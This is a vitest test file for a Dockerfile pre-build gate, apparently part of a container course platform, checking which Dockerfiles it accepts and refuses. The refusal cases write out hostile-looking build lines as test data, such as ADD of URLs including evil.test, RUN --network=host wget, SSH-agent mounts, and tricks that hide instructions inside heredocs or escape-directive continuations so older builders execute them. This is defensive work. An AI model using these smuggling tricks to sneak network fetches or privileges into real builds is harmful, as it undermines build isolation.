import { describe, expect, it } from 'vitest';
import { loadCourse } from '../../content/loadCourse.js';
import { parseDockerfile } from '../../parse/dockerfile.js';
import { gateDockerfile, isRemoteSource, normalizedImage } from './buildGate.js';
import { readFileSync, existsSync } from 'node:fs';
import path from 'node:path';
import { fileKindByName } from '../../checks/fileKinds.js';

const policy = { allowedImages: new Set(['busybox:1.36.1', 'node:20.11.1-alpine']), allowedFrontends: new Set<string>() };
const gate = (text: string, overrides: Partial<typeof policy> = {}) => gateDockerfile(parseDockerfile(text), { ...policy, ...overrides });

describe('the pre-build gate lets through', () => {
  it.each([
    ['a declared base image', 'FROM busybox:1.36.1\nUSER 10001\n'],
    ['the same image written with its registry', 'FROM docker.io/library/busybox:1.36.1\n'],
    ['earlier stages, by name and by index, and scratch', 'FROM node:20.11.1-alpine AS build\nRUN true\nFROM build AS test\nFROM scratch\nCOPY --from=build /a /a\nCOPY --from=0 /b /b\n'],
    ['COPY --from a declared image', 'FROM scratch\nCOPY --from=busybox:1.36.1 /bin/busybox /busybox\n'],
    ['a base image named through a global ARG default', 'ARG BASE=busybox:1.36.1\nFROM ${BASE}\n'],
    ['local ADD and COPY', 'FROM busybox:1.36.1\nADD app.tar.gz /srv/\nCOPY . /src\n'],
    ['secret, cache, tmpfs and bind mounts from a stage', 'FROM busybox:1.36.1 AS b\nFROM busybox:1.36.1\nRUN --mount=type=secret,id=token --mount=type=cache,target=/c --mount=type=tmpfs,target=/t --mount=type=bind,from=b,target=/b true\n'],
    ['a declared syntax frontend', '# syntax=local/frontend:1\nFROM busybox:1.36.1\n', { allowedFrontends: new Set(['local/frontend:1']) }],
    ['an ONBUILD that copies from the context', 'FROM busybox:1.36.1\nONBUILD COPY app /app\n'],
    ['comments that look like directives after the first instruction', 'FROM busybox:1.36.1\n# syntax=evil.example/x\n'],
    ['a heredoc to another file descriptor', 'FROM busybox:1.36.1\nRUN cat 3<<EOF\nhi\nEOF\n'],
    // A builder without heredocs cannot parse these bodies (`echo` is no instruction), so builds nothing of them.
    ['a heredoc script', 'FROM busybox:1.36.1\nRUN <<EOF\necho hi > /x\nEOF\n'],
    ['a heredoc ended by an instruction keyword, whose body is no instruction', 'FROM busybox:1.36.1\nRUN cat <<CMD > /x\nhello\nCMD\n'],
  ] as [string, string, Partial<typeof policy>?][])('%s', (_name, text, overrides = {}) => {
    expect(gate(text, overrides)).toEqual([]);
  });
});

describe('the pre-build gate refuses, naming the line and why', () => {
  it.each([
    ['ADD of an http URL', 'FROM busybox:1.36.1\nADD http://127.0.0.1:8000/secret.txt /x\n', 2, /fetches "http:\/\/127\.0\.0\.1:8000\/secret\.txt" over the network/],
    ['ADD of an https URL in exec form', 'FROM busybox:1.36.1\nADD ["https://example.test/a", "/a"]\n', 2, /fetches "https:\/\/example\.test\/a"/],
    ['ADD of a git repository', 'FROM busybox:1.36.1\nADD git@example.test:team/repo.git /src\n', 2, /fetches "git@example\.test:team\/repo\.git"/],
    ['ADD of a git URL', 'FROM busybox:1.36.1\nADD --keep-git-dir=true git://example.test/repo /src\n', 2, /over the network/],
    ['ADD of a URL hidden in an ARG', 'FROM busybox:1.36.1\nARG SRC=http://127.0.0.1:9/x\nADD $SRC /x\n', 3, /fetches "http:\/\/127\.0\.0\.1:9\/x"/],
    ['ADD of a URL hidden in an ENV', 'FROM busybox:1.36.1\nENV SRC http://127.0.0.1:9/x\nADD ${SRC} /x\n', 3, /fetches "http:\/\/127\.0\.0\.1:9\/x"/],
    ['ADD with a variable that cannot be resolved', 'FROM busybox:1.36.1\nADD $WHERE /x\n', 2, /variable in the source/],
    ['a registry host in FROM', 'FROM 127.0.0.1:5000/img:1\n', 1, /FROM 127\.0\.0\.1:5000\/img:1: not an image this challenge provides/],
    ['an image the challenge does not declare', 'FROM busybox:1.37.0\n', 1, /use one of: busybox:1\.36\.1, node:20\.11\.1-alpine/],
    ['an unresolvable variable in FROM', 'FROM $BASE\n', 1, /variable without a default/],
    ['FROM --platform', 'FROM --platform=linux/arm64 busybox:1.36.1\n', 1, /--platform/],
    ['COPY --from a registry image', 'FROM busybox:1.36.1\nCOPY --from=127.0.0.1:5000/img /a /a\n', 2, /COPY --from=127\.0\.0\.1:5000\/img: not a stage/],
    ['COPY --from a later stage', 'FROM busybox:1.36.1\nCOPY --from=later /a /a\nFROM busybox:1.36.1 AS later\n', 2, /not a stage/],
    ['RUN --mount from a registry image', 'FROM busybox:1.36.1\nRUN --mount=type=bind,from=127.0.0.1:5000/img,target=/m true\n', 2, /--mount from=127\.0\.0\.1:5000\/img/],
    ['RUN --network=host', 'FROM busybox:1.36.1\nRUN --network=host wget http://127.0.0.1/\n', 2, /--network=host: the build already runs without a network/],
    ['RUN --network=none too (the classic builder does not know the flag)', 'FROM busybox:1.36.1\nRUN --network=none true\n', 2, /--network=none/],
    ['RUN --security=insecure', 'FROM busybox:1.36.1\nRUN --security=insecure true\n', 2, /extra privileges/],
    ['RUN --mount=type=ssh', 'FROM busybox:1.36.1\nRUN --mount=type=ssh true\n', 2, /type=ssh would hand the build your SSH agent/],
    ['a syntax frontend', '# syntax=127.0.0.1:5000/frontend\nFROM busybox:1.36.1\n', 1, /"# syntax=127\.0\.0\.1:5000\/frontend" makes BuildKit fetch/],
    ['a syntax frontend in another spelling', '#SYNTAX = docker/dockerfile:1\nFROM busybox:1.36.1\n', 1, /makes BuildKit fetch/],
    ['ONBUILD ADD of a URL', 'FROM busybox:1.36.1 AS base\nONBUILD ADD http://127.0.0.1:9/x /x\nFROM base\n', 2, /ONBUILD ADD fetches "http:\/\/127\.0\.0\.1:9\/x"/],
    ['ONBUILD COPY --from a registry image', 'FROM busybox:1.36.1\nONBUILD COPY --from=127.0.0.1:5000/img /a /a\n', 2, /ONBUILD COPY --from=127\.0\.0\.1:5000\/img/],
    ['ONBUILD RUN --network=host', 'FROM busybox:1.36.1\nONBUILD RUN --network=host true\n', 2, /ONBUILD RUN --network=host/],
    // Read as BuildKit reads them, not as a forgiving editor parser would:
    ['a RUN after a line ending in an escaped backslash', 'FROM busybox:1.36.1\nRUN echo foo\\\\\nRUN --network=host wget x\n', 3, /--network=host/],
    ['a RUN after a quoted <<EOF, which opens no heredoc', "FROM busybox:1.36.1\nRUN echo 'x <<EOF'\nRUN --security=insecure id\nADD http://evil.test/x /x\nRUN cat <<EOF\nhi\nEOF\n", 3, /extra privileges/],
    ['an ADD after a quoted <<EOF', "FROM busybox:1.36.1\nRUN echo 'x <<EOF'\nRUN --security=insecure id\nADD http://evil.test/x /x\nRUN cat <<EOF\nhi\nEOF\n", 4, /fetches "http:\/\/evil\.test\/x"/],
    ['a RUN after a JSON-form RUN naming <<EOF', 'FROM busybox:1.36.1\nRUN ["sh", "-c", "cat <<EOF"]\nRUN --network=host x\n', 3, /--network=host/],
    ['a quoted mount type', 'FROM busybox:1.36.1\nRUN --mount="type=ssh" ssh git@example.test\n', 2, /type=ssh would hand the build/],
    ['a quoted mount source', 'FROM busybox:1.36.1\nRUN --mount=type=bind,"from=127.0.0.1:5000/img",target=/m true\n', 2, /--mount from=127\.0\.0\.1:5000\/img/],
    ['a mount written without =', 'FROM busybox:1.36.1\nRUN --mount type=ssh true\n', 2, /--mount without a value/],
    // Engine 20.10's builders know no heredocs: a body ended by a line that is itself an
    // instruction (`CMD`) is read as instructions, and run (seen fetching a URL on that engine).
    ['an ADD inside a heredoc ended by CMD', 'FROM busybox:1.36.1\nRUN cat <<CMD\nADD http://127.0.0.1:8765/x /x\nCMD\n', 3, /fetches "http:\/\/127\.0\.0\.1:8765\/x".*read without heredocs, as Engine 20\.10's builders read it, this line is an instruction of its own/],
    ['a RUN --network=host inside a heredoc', 'FROM busybox:1.36.1\nRUN <<ENTRYPOINT\nRUN --network=host wget x\nENTRYPOINT\n', 3, /--network=host.*read without heredocs/],
    ['a COPY --from an image inside a heredoc', 'FROM busybox:1.36.1\nCOPY <<CMD /x\nCOPY --from=127.0.0.1:5000/img /a /a\nCMD\n', 3, /COPY --from=127\.0\.0\.1:5000\/img.*read without heredocs/],
    // Builders that end the directives at the first one that is not `escape` (Engine 20.10's)
    // ignore this `# escape=`: the backtick then continues nothing, and the ADD is an instruction.
    ['an ADD hidden by a backtick continuation after # check= and # escape=', '# check=skip=all\n# escape=`\nFROM busybox:1.36.1\nRUN true #`\nADD http://127.0.0.1:8765/z /z\n', 5, /fetches "http:\/\/127\.0\.0\.1:8765\/z".*read with \\ as the escape character/],
    ['an ADD hidden by a backslash continuation that another escape directive would end', '# escape=`\nFROM busybox:1.36.1\nRUN true #\\\nADD http://127.0.0.1:8765/z /z\n', 4, /fetches.*read with ` as the escape character|fetches "http:\/\/127\.0\.0\.1:8765\/z"/],
    ['a syntax frontend after a check directive', '# check=skip=all\n# syntax=127.0.0.1:5000/frontend\nFROM busybox:1.36.1\n', 2, /makes BuildKit fetch/],
    ['a RUN after an escape directive that a comment made a comment', '# vim: set ft=dockerfile\n# escape=`\nFROM busybox:1.36.1\nRUN echo `\nRUN --network=host wget x\n', 5, /--network=host/],
  ] as const)('%s', (_name, text, line, reason) => {
    const refusals = gate(text);
    expect(refusals).toContainEqual({ line, reason: expect.stringMatching(reason) });
  });

  it('reports every refusal in line order', () => {
    const refusals = gate('FROM 127.0.0.1:5000/a\nADD http://127.0.0.1/x /x\nRUN --network=host true\n');
    expect(refusals.map((refusal) => refusal.line)).toEqual([1, 2, 3]);
  });
});

describe('what counts as remote', () => {
  it.each(['http://a/b', 'HTTPS://a/b', 'git://a/b', 'ssh://git@a/b', 'ftp://a/b', 'git@github.com:a/b.git'])('%s is remote', (source) => {
    expect(isRemoteSource(source)).toBe(true);
  });
  it.each(['app.tar.gz', './src', 'dir/with:colon', '/abs/path'])('%s is local', (source) => {
    expect(isRemoteSource(source)).toBe(false);
  });
  it('normalises Docker Hub spellings', () => {
    expect(normalizedImage('docker.io/library/busybox:1.36.1')).toBe('busybox:1.36.1');
    expect(normalizedImage('index.docker.io/team/app:1')).toBe('team/app:1');
  });
});

describe('every challenge of the course gets through its own gate', () => {
  const course = loadCourse();
  const withRuntime = course.challenges.filter((challenge) => challenge.checks.runtime);
  it.each(withRuntime.map((challenge) => [challenge.id, challenge] as const))('%s', (_id, challenge) => {
    const runtime = challenge.checks.runtime!;
    expect(runtime.images?.length).toBeGreaterThan(0);
    const allowed = { allowedImages: new Set(runtime.images), allowedFrontends: new Set(runtime.frontends ?? []) };
    const texts: [string, string][] = [];
    for (const side of ['broken', 'solution']) {
      const full = path.join(course.root, challenge.folder, side, runtime.dockerfile);
      if (existsSync(full)) texts.push([`${side}/${runtime.dockerfile}`, readFileSync(full, 'utf8')]);
    }
    for (const variant of [...challenge.negativeFixes, ...challenge.alternativeSolutions]) {
      for (const [file, text] of Object.entries(variant.files)) if (fileKindByName(file) === 'dockerfile') texts.push([`${variant.name}: ${file}`, text]);
    }
    for (const [name, text] of texts) {
      let model;
      try {
        model = parseDockerfile(text, name);
      } catch {
        continue; // a negative fix may be a file that does not parse on purpose
      }
      expect({ name, refusals: gateDockerfile(model, allowed) }).toEqual({ name, refusals: [] });
    }
  });
});
